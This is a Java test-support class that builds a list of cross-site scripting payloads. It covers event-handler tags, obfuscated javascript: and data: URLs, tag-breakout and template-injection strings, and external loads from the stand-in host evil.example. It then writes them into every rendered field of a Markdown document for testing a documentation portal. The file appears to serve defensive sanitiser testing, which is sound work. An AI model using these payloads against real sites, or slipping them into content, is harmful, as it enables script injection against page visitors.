package dev.portolan.safety;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/// Texts that would run a script in a page that does not escape them: a grammar of elements,
/// events, schemes, encodings and ways out of the places that a template prints text in. Each calls
/// `pwn()`, goes to `evil.example`, or asks it for something.
public final class ScriptPayloads {

  private static final String EVIL = "//evil.example/";

  private static final List<String> EVENTS =
      List.of(
          "onload",
          "onerror",
          "onfocus",
          "onclick",
          "onmouseover",
          "ontoggle",
          "onbegin",
          "onanimationstart",
          "onpointerenter",
          "oncontentvisibilityautostatechange");

  private static final List<String> ELEMENTS =
      List.of(
          "<img src=x %s=pwn()>",
          "<IMG/SRC=x/%s=pwn()//",
          "<svg %s=pwn()>",
          "<svg><animate %s=pwn() attributeName=x dur=1s>",
          "<math><mtext><table><mglyph><style><img src=x %s=pwn()>",
          "<body %s=pwn()>",
          "<details open %s=pwn()><summary>a</summary>b</details>",
          "<input autofocus %s=pwn()>",
          "<video src=x %s=pwn()><source src=x %s=pwn()></video>",
          "<a href=# tabindex=0 %s=pwn()>a</a>",
          "<p\u000C%s=pwn()>a</p>",
          "<x-y tabindex=0 %s=pwn()>a</x-y>");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:pwn()",
          "JaVaScRiPt:pwn()",
          " javascript:pwn()",
          "\u0001javascript:pwn()",
          "java\tscript:pwn()",
          "java&#10;script:pwn()",
          "java&Tab;script:pwn()",
          "java&NewLine;script:pwn()",
          "java&#115;cript:pwn()",
          "&#x6A;avascript:pwn()",
          "javascript&colon;pwn()",
          "javascript&#58;pwn()",
          "javascript:%70wn()",
          "%6Aavascript:pwn()",
          "vbscript:pwn()",
          "data:text/html,<script>pwn()</script>",
          "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
          "data:image/svg+xml,<svg onload=pwn()>",
          "blob:pwn",
          "\\\\evil.example/x",
          "/\\evil.example/x",
          "javascript://%0Apwn()");

  private static final List<String> ADDRESSED =
      List.of(
          "<a href=\"%s\">a</a>",
          "<img src=\"%s\">",
          "<iframe src=\"%s\"></iframe>",
          "<form action=\"%s\"><button>a</button></form>",
          "<svg><a xlink:href=\"%s\"><text y=9>a</text></a></svg>",
          "<object data=\"%s\"></object>",
          "[a](%s)",
          "[a](<%s>)",
          "![a](%s)",
          "<%s>",
          "[a]: %s");

  private static final List<String> WHOLE =
      List.of(
          "<script>pwn()</script>",
          "<SCRIPT SRC=" + EVIL + "x.js></SCRIPT>",
          "<scr<script>ipt>pwn()</scr</script>ipt>",
          "<script type=module>pwn()</script>",
          "<style>@import '" + EVIL + "x.css';</style>",
          "<style><!--</style><img src=x onerror=pwn()>-->",
          "<p style=\"background:url(" + EVIL + "x)\">a</p>",
          "<link rel=stylesheet href=" + EVIL + "x.css>",
          "<meta http-equiv=refresh content=\"0;url=" + EVIL + "\">",
          "<meta http-equiv=refresh content=\"0;url=javascript:pwn()\">",
          "<base href=" + EVIL + ">",
          "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>",
          "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
          "<template><script>pwn()</script></template>",
          "<textarea></textarea><script>pwn()</script>",
          "<svg><script>pwn()</script></svg>",
          "<svg><use href=\"data:image/svg+xml,<svg id=x onload=pwn()>#x\"/></svg>",
          "<svg><foreignObject><iframe srcdoc='<script>parent.pwn()</script>'></foreignObject>",
          "<svg><set attributeName=href to=javascript:pwn() /></svg>",
          "<math href=javascript:pwn()>a</math>",
          "<img srcset=\"" + EVIL + "x 2x\">",
          "<img src=\"" + EVIL + "x.png\" onerror=pwn()>",
          "<video poster=" + EVIL + "x></video>",
          "<form><input name=attributes><input name=innerHTML></form>",
          "<img id=pt-search name=getElementById>",
          "<a ping=" + EVIL + " href=#>a</a>",
          "<!--><img src=x onerror=pwn()>-->",
          "<![CDATA[><script>pwn()</script>]]>",
          "<?xml ?><script>pwn()</script>",
          "</title><script>pwn()</script>",
          "</textarea><script>pwn()</script>",
          "</script><script>pwn()</script>",
          "--><script>pwn()</script>",
          "\"><script>pwn()</script>",
          "'><script>pwn()</script>",
          "\" autofocus onfocus=\"pwn()",
          "' autofocus onfocus='pwn()",
          "` onmouseover=pwn() `",
          "x onerror=pwn() y",
          "&lt;script&gt;pwn()&lt;/script&gt;",
          "&amp;lt;script&amp;gt;pwn()",
          "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
          "{{ pwn() }}{% include 'x' %}${pwn()}#{pwn()}<%= pwn() %>",
          "]]></script><script>pwn()</script>",
          "\u2028pwn()\u2029",
          "<mark onclick=pwn()>8080</mark>",
          "[a](x \"\\\"><script>pwn()</script>\")",
          "![a](x 'onerror=pwn()')",
          "```html\" onmouseover=\"pwn()\n<script>pwn()</script>\n```");

  private ScriptPayloads() {}

  /// Every payload once.
  public static List<String> all() {
    Set<String> payloads = new LinkedHashSet<>(WHOLE);
    for (int i = 0; i < ELEMENTS.size(); i++) {
      for (String event : List.of(EVENTS.get(i % EVENTS.size()), "onerror", "onfocus")) {
        payloads.add(ELEMENTS.get(i).replace("%s", event));
      }
    }
    for (int i = 0; i < ADDRESSES.size(); i++) {
      for (int j = 0; j < ADDRESSED.size(); j += 2) {
        payloads.add(ADDRESSED.get((i + j) % ADDRESSED.size()).replace("%s", ADDRESSES.get(i)));
      }
    }
    return new ArrayList<>(payloads);
  }

  /// A document with the payloads in every place whose text the portal shows.
  public static String document(List<String> payloads) {
    StringBuilder text = new StringBuilder();
    String first = line(payloads.getFirst());
    text.append("---\ntitle: '").append(first.replace("'", "''")).append("'\n");
    text.append("authors: ['").append(first.replace("'", "''")).append("']\n---\n");
    text.append("# ").append(first).append("\n\n> **版本**: ").append(first).append("  \n");
    text.append("> **文档状态**: ").append(first).append("\n\n");
    for (String payload : payloads) {
      String cell = line(payload).replace("|", "\\|");
      text.append("## ").append(line(payload)).append("\n\n").append(payload).append("\n\n");
      text.append("文 ").append(payload).append(" 字 **").append(line(payload)).append("**\n\n");
      text.append("- ").append(line(payload)).append("\n\n> ").append(line(payload)).append("\n\n");
      text.append("`")
          .append(line(payload))
          .append("`\n\n```\n")
          .append(payload)
          .append("\n```\n\n");
      text.append("```").append(line(payload)).append("\na\n```\n\n");
      text.append("[")
          .append(line(payload))
          .append("](a.md \"")
          .append(line(payload))
          .append("\")");
      text.append(" ![").append(line(payload)).append("](a.png)\n\n");
      text.append("<p title=\"").append(line(payload)).append("\">x</p>\n\n");
      text.append("注[^").append(Math.abs(payload.hashCode())).append("]\n\n[^");
      text.append(Math.abs(payload.hashCode())).append("]: ").append(line(payload)).append("\n\n");
      text.append("| 项 | 文 |\n|---|---|\n| ").append(cell).append(" | ").append(cell);
      text.append(" |\n\n");
    }
    payloads.stream().limit(2).map(ScriptPayloads::line).forEach(it -> facts(it, text));
    return text.append("\n## 参考资料\n\n- [").append(first).append("](x)\n").toString();
  }

  /// Tables whose rows become facts: services, ports, variables, technologies, dependencies.
  private static void facts(String it, StringBuilder text) {
    text.append("## 服务清单\n\n| 服务 | 端口 | 资源需求 | 说明 |\n|---|---|---|---|\n");
    text.append(row(it, "8080", it, it));
    text.append("\n## 端口规划\n\n| 服务 | 端口 | 协议 | 暴露范围 | 说明 |\n|---|---|---|---|---|\n");
    text.append(row(it, "8081", it, it, it)).append(row(it, it, "tcp", "", ""));
    text.append("\n## 环境变量\n\n| 变量名 | 说明 | 默认值 | 示例值 |\n|---|---|---|---|\n");
    text.append(row("EVIL_NAME", it, it, it)).append(row(it, it, "1", "2"));
    text.append("\n## 技术栈对比\n\n| 组件 | 选择方案 | 备选方案 | 选择理由 |\n|---|---|---|---|\n");
    text.append(row(it, it, it, it));
    text.append("\n## 部署依赖关系\n\n| 服务 | 依赖 |\n|---|---|\n").append(row(it, it));
  }

  private static String row(String... cells) {
    StringBuilder row = new StringBuilder("|");
    for (String cell : cells) {
      row.append(' ').append(cell.replace("|", "\\|")).append(" |");
    }
    return row.append('\n').toString();
  }

  private static String line(String text) {
    return text.replace('\n', ' ');
  }
}
